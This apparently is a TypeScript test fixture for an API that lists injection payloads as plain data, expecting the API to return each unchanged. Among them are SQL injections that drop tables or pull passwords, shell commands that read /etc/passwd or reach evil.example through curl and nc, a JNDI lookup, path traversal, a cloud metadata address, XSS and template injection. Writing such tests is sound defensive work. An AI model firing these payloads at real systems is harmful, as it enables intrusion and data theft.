import { at, type Case, field, read } from '../case.ts';

const data = (what: string, note: string): Case => [what, field('note', note), 200];

/** Attacks on the systems behind the API: here they are plain data, which reaches the handler unchanged and is returned as JSON. */
export const injection: readonly Case[] = [
  data('SQL that is always true', "' OR '1'='1"),
  data('SQL that drops', "'); DROP TABLE items;--"),
  data('SQL that waits', "1'; WAITFOR DELAY '0:0:5'--"),
  data('SQL of a union', "' UNION SELECT password FROM users--"),
  data('a condition of DynamoDB', '#a = :b OR attribute_exists(#c)'),
  data('an operator of a document store', '{"$gt": ""}'),
  data('an expression of LDAP', '*)(uid=*))(|(uid=*'),
  data('an expression of XPath', "' or count(/*)=1 or 'a'='b"),
  data('a command', '; cat /etc/passwd'),
  data('a command in quotes', '$(curl evil.example)'),
  data('a command in a pipe', '| nc evil.example 80'),
  data('a lookup of a logger', `${'${jndi'}:ldap://evil.example/a}`),
  data('a template of double braces', '{{7*7}}'),
  data('a template of a dollar', `${'$'}{7*7}`),
  data('a formula of a spreadsheet', '=cmd|"/C calc"!A0'),
  data('a path', '../../../../etc/passwd'),
  data('an address of a metadata service', 'http://169.254.169.254/latest/meta-data/'),
  data('a script where markup is not rejected', '<script>alert(1)</script>'),
  data('an address of a script', 'javascript:alert(1)'),
  data('a format string', '%s%s%n%x'),
  data('a serialized object', 'rO0ABXNyABdqYXZhLnV0aWw='),
  data('an object of another language', 'O:8:"stdClass":0:{}'),
  data('two lines', 'a\r\nSet-Cookie: b=c'),
  data('a joiner and a mark', '\u{1f468}\u200d\u{1f469} \u200f\u05d0'),
  ['SQL in a query', read("q=' OR 1=1--".replaceAll(' ', '%20')), 200],
  ['a traversal in a query', read('q=..%2f..%2fetc%2fpasswd'), 200],
  ['an address in a query', read('q=https%3a%2f%2fevil.example'), 200],
  ['a traversal in a name', at('/names/..%2f..%2fetc%2fpasswd'), 200],
  ['SQL in a name', at('/names/%27%20OR%201=1--'), 200],
  ['a template in a name', at('/names/%7b%7b7*7%7d%7d'), 200],
];
